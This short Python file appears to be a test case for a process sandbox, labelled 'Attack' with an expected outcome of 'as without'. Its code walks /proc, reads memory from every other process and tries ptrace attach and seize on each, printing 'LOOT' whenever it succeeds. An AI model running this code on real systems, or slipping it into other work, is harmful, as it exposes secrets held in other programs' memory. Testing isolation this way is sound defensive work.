# Attack: reads the memory of its parent and of every other process
# Expect: as without
def _attack():
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long] * 4
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
                memory.seek(int(maps.readline().split("-")[0], 16))
                print("LOOT memory of", pid, len(memory.read(100)))
        except (OSError, ValueError, IndexError):
            pass
        for request in (16, 0x4206):
            if libc.ptrace(request, int(pid), 0, 0) == 0:
                print("LOOT traces", pid)
    _struck()


_attack()
